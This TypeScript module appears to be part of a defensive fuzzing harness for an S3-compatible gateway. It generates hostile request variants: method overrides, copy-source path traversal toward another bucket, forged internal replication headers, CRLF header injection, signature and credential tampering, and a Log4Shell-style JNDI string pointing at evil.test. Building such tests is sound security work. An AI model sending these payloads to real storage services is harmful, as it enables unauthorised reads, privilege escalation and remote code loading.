import type { Random } from '../support/random.ts'
import type { ClientName } from './clients.ts'
import type { Header, HostileRequest, Signing, Wire } from './hostile-request.ts'
import { baseHost } from './oracle.ts'
import { knownForeign as foreign, knownForeignKey as key } from './planted.ts'

type Change = (random: Random, request: HostileRequest) => HostileRequest

const withHeaders = (request: HostileRequest, ...headers: readonly Header[]): HostileRequest => ({
  ...request,
  headers: [...request.headers, ...headers],
})

const methods = [
  'OPTIONS',
  'HEAD',
  'PATCH',
  'TRACE',
  'CONNECT',
  'get',
  'Get',
  'COPY',
  'MOVE',
  'PROPFIND',
  'LOCK',
  'MERGE',
  'PURGE',
  'QUERY',
  'PUT',
  'POST',
  'DELETE',
  'GET',
  'GETX',
  '',
]

const methodChanges: readonly Change[] = [
  (random, request) => ({ ...request, method: random.pick(methods) }),
  (random, request) =>
    withHeaders(request, [
      random.pick(['x-http-method-override', 'x-method-override', 'x-http-method']),
      random.pick(['DELETE', 'PUT', 'GET']),
    ]),
  (_, request) => ({
    ...withHeaders(request, ['origin', 'http://evil.test'], ['access-control-request-method', 'GET']),
    method: 'OPTIONS',
    signing: { way: 'none' },
  }),
]

const copySources: readonly string[] = [
  `/${foreign}/${key}`,
  `${foreign}/${key}`,
  `//${foreign}/${key}`,
  `%2F${foreign}%2F${key}`,
  `${foreign}%2F${key}`,
  `/%70rivate/${key}`,
  `/%2570rivate/${key}`,
  `/drop/../${foreign}/${key}`,
  `/drop/%2e%2e/${foreign}/${key}`,
  `drop%2F..%2F${foreign}%2F${key}`,
  `/photos/../${foreign}/${key}`,
  `/./${foreign}/${key}`,
  `\\${foreign}\\${key}`,
  `/${foreign}/${key}?versionId=null`,
  `/drop/a.txt?versionId=null&x=/${foreign}/${key}`,
  `/drop/a.txt?versionId=../../${foreign}/${key}`,
  `/drop?versionId=x/../${foreign}/${key}`,
  `/drop/a.txt, /${foreign}/${key}`,
  `arn:aws:s3:::${foreign}/${key}`,
  `arn:aws:s3:us-east-1:1:accesspoint/${foreign}/object/${key}`,
  `http://127.0.0.1/${foreign}/${key}`,
  `/${foreign.toUpperCase()}/${key}`,
  `/${foreign}//${key}`,
  `/ ${foreign}/${key}`,
  `/shelf/theirs/known`,
  `/shelf/mine/../theirs/known`,
  `shelf/mine/%2e%2e/theirs/known`,
  '',
  '/',
  '%',
  '/drop/%00',
  `default:${foreign}/${key}`,
  `:${foreign}/${key}`,
  `/minio/admin/v3/info`,
]

const rightfulHeaders: readonly Header[] = [
  ['x-amz-acl', 'public-read'],
  ['x-amz-acl', 'public-read-write'],
  ['x-amz-acl', 'bucket-owner-full-control'],
  ['x-amz-grant-read', 'uri="http://acs.amazonaws.com/groups/global/AllUsers"'],
  ['x-amz-grant-full-control', 'id="lockstep"'],
  ['x-amz-grant-write-acp', 'emailAddress="a@b.test"'],
  ['x-amz-bypass-governance-retention', 'true'],
  ['x-amz-bypass-governance-retention', 'TRUE'],
  ['x-amz-object-lock-mode', 'COMPLIANCE'],
  ['x-amz-object-lock-retain-until-date', '2090-01-01T00:00:00Z'],
  ['x-amz-object-lock-legal-hold', 'ON'],
  ['x-amz-tagging', 'lockstep=1&a=b'],
  ['x-amz-website-redirect-location', 'http://evil.test/'],
  ['x-amz-expected-bucket-owner', 'nobody'],
  ['x-amz-request-payer', 'requester'],
  ['x-amz-mfa', '1 2'],
  ['x-amz-security-token', 'made-up'],
  ['x-amz-server-side-encryption', 'aws:kms'],
  ['x-amz-storage-class', 'GLACIER'],
  ['x-amz-write-offset-bytes', '0'],
  ['x-amz-rename-source', `/${foreign}/${key}`],
  ['x-amz-copy-source-range', 'bytes=0-1'],
  ['x-amz-metadata-directive', 'REPLACE'],
  ['x-amz-force-delete', 'true'],
]

/** What servers of S3 believe of each other, and what Lockstep believes of itself. */
const serversHeaders: readonly Header[] = [
  ['x-minio-source-replication-request', 'true'],
  ['x-minio-source-mtime', '2001-01-01T00:00:00Z'],
  ['x-minio-source-etag', 'd41d8cd98f00b204e9800998ecf8427e'],
  ['x-minio-source-version-id', '8c6b1a3e-0000-4000-8000-000000000001'],
  ['x-minio-source-proxy-request', 'true'],
  ['x-minio-force-delete', 'true'],
  ['x-minio-extract', 'true'],
  ['x-minio-replication-ssec-crc', 'x'],
  ['x-minio-internal-server-side-encryption-sealed-key', 'x'],
  ['x-rustfs-force-delete', 'true'],
  ['x-rustfs-source-replication-request', 'true'],
  ['x-rgw-object-type', 'Appendable'],
  ['x-rgw-auth', 'system'],
  ['x-rgw-next-append-position', '0'],
  ['rgwx-perm-check-uid', 'lockstep'],
  ['x-amz-replication-status', 'REPLICA'],
  ['x-amz-meta-lockstep-version', '8c6b1a3e-0000-4000-8000-000000000001'],
  ['x-amz-meta-lockstep-origin', `a/${foreign}`],
  ['X-Amz-Meta-Lockstep-Modified', '2001-01-01T00:00:00Z'],
  ['x-amz-meta-lockstep-placeholder', '1'],
  ['x-amz-meta-x-amz-meta-lockstep-version', 'x'],
  ['x-amz-meta-\xfc', '\xfc\xff'],
  ['x-auth-token', 'made-up'],
  ['x-object-manifest', `${foreign}/${key}`],
  ['x-container-read', '.r:*'],
  ['x-lockstep-acks', '9/9'],
  ['x-lockstep-served-by', foreign],
]

const plainHeaders: readonly Header[] = [
  ['accept', 'application/json'],
  ['accept-encoding', 'gzip, br'],
  ['range', 'bytes=0-0,1-2'],
  ['range', `bytes=${'0-1,'.repeat(900)}2-3`],
  ['range', 'bytes=-99999999999999999999'],
  ['if-none-match', '*'],
  ['if-match', `"${'a'.repeat(2000)}"`],
  ['if-modified-since', 'never'],
  ['connection', 'x-amz-date, authorization, host, x-amz-content-sha256'],
  ['connection', 'upgrade'],
  ['upgrade', 'h2c'],
  ['te', 'trailers'],
  ['via', '1.1 proxy'],
  ['x-forwarded-for', '127.0.0.1'],
  ['x-forwarded-host', `${foreign}.${baseHost}`],
  ['x-forwarded-proto', 'https'],
  ['x-forwarded-prefix', `/${foreign}`],
  ['x-original-url', `/${foreign}/${key}`],
  ['x-accel-redirect', `/${foreign}/${key}`],
  ['cookie', 'session=1'],
  ['content-type', 'multipart/form-data; boundary=x'],
  ['content-encoding', 'gzip,aws-chunked'],
  ['content-disposition', 'a\x80b'],
  ['cache-control', 'x'.repeat(9000)],
  ['expires', 'never'],
  ['origin', 'http://evil.test'],
  ['expect', '100-continue'],
  ['expect', 'something'],
  ['x-long', 'y'.repeat(20_000)],
  ['user-agent', '${jndi:ldap://evil.test/a}<script>'],
]

const headerChanges: readonly Change[] = [
  (random, request) => ({
    ...withHeaders(request, [spelled(random, 'x-amz-copy-source'), random.pick(copySources)]),
    ...(random.chance(0.8) && { method: 'PUT', body: Buffer.alloc(0) }),
  }),
  (random, request) =>
    withHeaders(
      request,
      ['x-amz-copy-source', '/drop/a.txt'],
      [spelled(random, 'x-amz-copy-source'), random.pick(copySources)],
    ),
  (random, request) => ({
    ...withHeaders(request, ['x-amz-copy-source', random.pick(copySources)]),
    method: 'PUT',
    target: `${request.target.split('?')[0]!}?partNumber=1&uploadId=none`,
    body: Buffer.alloc(0),
  }),
  (random, request) => withHeaders(request, random.pick(rightfulHeaders)),
  (random, request) => withHeaders(request, random.pick(serversHeaders)),
  (random, request) => withHeaders(request, random.pick(serversHeaders), random.pick(serversHeaders)),
  (random, request) => withHeaders(request, random.pick(plainHeaders)),
  (random, request) => withHeaders(request, random.pick(plainHeaders), random.pick(rightfulHeaders)),
  (random, request) =>
    withHeaders(
      request,
      ...Array.from({ length: random.pick([60, 300, 1500]) }, (_, index): Header => [
        `x-amz-meta-m${index}`,
        'v'.repeat(10),
      ]),
    ),
  (random, request) =>
    withHeaders(request, [`x-amz-meta-${'n'.repeat(random.pick([100, 3000]))}`, 'v'.repeat(random.pick([100, 9000]))]),
]

const spelled = (random: Random, name: string): string =>
  random.chance(0.3) ? Array.from(name, (c) => (random.chance(0.5) ? c.toUpperCase() : c)).join('') : name

type Late = (wire: Wire, random: Random) => Wire

function replaced({ headers, ...wire }: Wire, name: string, change: (value: string) => string): Wire {
  return {
    ...wire,
    headers: headers.map(([own, value]): Header => (own === name ? [own, change(value)] : [own, value])),
  }
}

function presignedOr(wire: Wire, change: (query: string) => string, other: (wire: Wire) => Wire): Wire {
  return wire.target.includes('X-Amz-Signature=') ? { ...wire, target: change(wire.target) } : other(wire)
}

/** After signing: each makes the signature one of something else, so that nobody may take it. */
const tampered: Readonly<Record<string, Late>> = {
  'another path': (wire) => ({ ...wire, target: wire.target.replace(/^\/[^/?]*/, `/${foreign}`) }),
  'another key': (wire) => ({ ...wire, target: wire.target.replace(/^[^?]*/, (path) => `${path}x`) }),
  'another query': (wire) => ({
    ...wire,
    target: `${wire.target}${wire.target.includes('?') ? '&' : '?'}versionId=null`,
  }),
  'a sub-resource in front': (wire) => ({ ...wire, target: wire.target.replace(/\?|$/, '?acl&').replace(/&$/, '') }),
  'an unsigned acl': (wire) => ({ ...wire, headers: [...wire.headers, ['x-amz-acl', 'public-read']] }),
  'an unsigned copy source': (wire) => ({
    ...wire,
    headers: [...wire.headers, ['x-amz-copy-source', `/${foreign}/${key}`]],
  }),
  'unsigned metadata': (wire) => ({ ...wire, headers: [...wire.headers, ['x-amz-meta-late', '1']] }),
  'another method': (wire) => ({ ...wire, method: wire.method === 'GET' ? 'DELETE' : 'GET' }),
  'another signature': (wire) =>
    presignedOr(
      wire,
      (target) => target.replace(/(X-Amz-Signature=.)./, (_, before: string) => `${before}g`),
      () => replaced(wire, 'authorization', (value) => value.replace(/.$/, (c) => (c === '0' ? '1' : '0'))),
    ),
  'a short signature': (wire) =>
    presignedOr(
      wire,
      (target) => target.replace(/X-Amz-Signature=[0-9a-f]{4}/, 'X-Amz-Signature='),
      () => replaced(wire, 'authorization', (value) => value.slice(0, -2)),
    ),
  'no signed headers': (wire) =>
    presignedOr(
      wire,
      (target) => target.replace('X-Amz-SignedHeaders=host', 'X-Amz-SignedHeaders='),
      () => replaced(wire, 'authorization', (value) => value.replace(/SignedHeaders=[^,]*/, 'SignedHeaders=')),
    ),
  'another date': (wire) =>
    presignedOr(
      wire,
      (target) => target.replace(/X-Amz-Date=\d{8}/, 'X-Amz-Date=20200101'),
      () => replaced(wire, 'x-amz-date', () => '20200101T000000Z'),
    ),
  'an empty date in the credential': (wire) =>
    presignedOr(
      wire,
      (target) => target.replace(/%2F\d{8}%2F/, '%2F%2F'),
      () => replaced(wire, 'authorization', (value) => value.replace(/\/\d{8}\//, '//')),
    ),
  'another credential': (wire) =>
    presignedOr(
      wire,
      (target) => target.replace(/HOSTILE\.\w+/, 'HOSTILE.writer2'),
      () => replaced(wire, 'authorization', (value) => value.replace(/HOSTILE\.\w+/, '__proto__')),
    ),
  'two authorizations': (wire) =>
    presignedOr(
      wire,
      (target) => `${target}&X-Amz-Signature=${'0'.repeat(64)}`,
      () => ({ ...wire, headers: [['authorization', 'AWS4-HMAC-SHA256 Credential=x'], ...wire.headers] }),
    ),
  'an authorization in capitals besides': (wire) => ({
    ...wire,
    headers: [...wire.headers, ['Authorization', 'Bearer x']],
  }),
  'two signatures in one header': (wire) =>
    presignedOr(
      wire,
      (target) => target.replace('?', `?X-Amz-Signature=${'0'.repeat(64)}&`),
      () => replaced(wire, 'authorization', (value) => `${value}, Signature=${'0'.repeat(64)}`),
    ),
  'a second credential': (wire) =>
    presignedOr(
      wire,
      (target) => `${target}&X-Amz-Credential=HOSTILE.writer`,
      () =>
        replaced(wire, 'authorization', (value) =>
          value.replace('Credential=', 'Credential=HOSTILE.writer/20200101/x/s3/aws4_request, Credential='),
        ),
    ),
  'two hosts': (wire) => ({ ...wire, headers: [...wire.headers, ['host', `${foreign}.${baseHost}`]] }),
  'two hosts, the other first': (wire) => ({ ...wire, headers: [['host', `${foreign}.${baseHost}`], ...wire.headers] }),
  'another host': (wire) => replaced(wire, 'host', () => `${foreign}.${baseHost}`),
  'a space before the colon': (wire) => ({ ...wire, headers: [...wire.headers, ['x-amz-acl ', 'public-read']] }),
  'a folded header': (wire) => ({ ...wire, headers: [...wire.headers, ['x-a', 'b\r\n x-amz-acl: public-read']] }),
  'a bare line feed': (wire) => ({ ...wire, headers: [...wire.headers, ['x-a', `b\nx-amz-acl: public-read`]] }),
  'a bare carriage return': (wire) => ({ ...wire, headers: [...wire.headers, ['x-a', `b\rx-amz-acl: public-read`]] }),
  'a zero byte': (wire) => ({ ...wire, headers: [...wire.headers, ['x-a', 'b\0c']] }),
  'no name': (wire) => ({ ...wire, headers: [...wire.headers, ['', 'x']] }),
  'no version': (wire) => ({ ...wire, version: '' }),
  'a version of old': (wire) => ({ ...wire, version: 'HTTP/0.9' }),
  'a version to come': (wire) => ({ ...wire, version: 'HTTP/2.0' }),
  'a huge head': (wire, random) => ({
    ...wire,
    headers: [...wire.headers, ['x-a', 'z'.repeat(random.pick([40_000, 200_000]))]],
  }),
}

/** Odd, and yet one thing to every reader. */
const harmless = new Set(['a version of old', 'a version to come'])

const late = (request: HostileRequest, wrong: string | null, change: (wire: Wire) => Wire): HostileRequest => ({
  ...request,
  wrong,
  late: (wire) => change(request.late?.(wire) ?? wire),
})

const resigned = (request: HostileRequest, signing: Partial<Signing>, wrong: string | null): HostileRequest => ({
  ...request,
  signing: { ...request.signing, ...signing },
  wrong: wrong ?? request.wrong,
})

const others: readonly ClientName[] = ['viewer', 'writer', 'scoped', 'expired']
const expiries = [
  '1e3',
  '0x10',
  '%205',
  '5%20',
  '+5',
  '',
  '-1',
  '604801',
  '99999999999999',
  '1.0',
  '٣',
  '300,300',
  '5;',
  '00000000000300x',
  'Infinity',
  'NaN',
  '1_000',
  '%00300',
]

const signatureChanges: readonly Change[] = [
  (random, request) => {
    const name = random.pick(Object.keys(tampered))
    return {
      ...late(request, harmless.has(name) ? null : name, (wire) => tampered[name]!(wire, random)),
      name: `${request.name} [${name}]`,
    }
  },
  (random, request) => {
    const name = random.pick(Object.keys(tampered))
    const presigned: HostileRequest = {
      ...request,
      signing: { ...request.signing, way: 'presigned' },
      body: Buffer.alloc(0),
    }
    return {
      ...late(presigned, harmless.has(name) ? null : name, (wire) => tampered[name]!(wire, random)),
      name: `${request.name} [${name}]`,
    }
  },
  (random, request) => {
    const secretOf = random.pick(others.filter((name) => name !== request.as))
    return resigned(request, { secretOf }, 'the secret of another')
  },
  (random, request) => {
    const idOf = random.pick(others.filter((name) => name !== request.as))
    return resigned(request, { idOf, secretOf: request.as }, 'the name of another')
  },
  (random, request) =>
    resigned(
      request,
      { agoMs: random.pick([-1, 1]) * random.pick([16 * 60_000, 3_600_000, 86_400_000]) },
      'not of this hour',
    ),
  (_, request) => resigned(request, { way: 'none' }, 'nobody signed it'),
  (_, request) => resigned(request, { way: 'version2' }, 'signed as of old'),
  (_, request) => resigned(request, { way: 'presigned' }, null),
  (random, request) => resigned(request, { way: 'presigned', expires: random.pick(expiries) }, 'expires at no number'),
  (_, request) => resigned(request, { way: 'presigned', agoMs: 400_000 }, 'it has expired'),
  (_, request) => resigned(request, { path: 'normal' }, null),
  (_, request) => ({ ...request, as: 'expired' }),
]

/** Changes to the method, the headers and the signature. */
export const headChanges: Readonly<Record<string, readonly Change[]>> = {
  method: methodChanges,
  header: headerChanges,
  signature: signatureChanges,
}
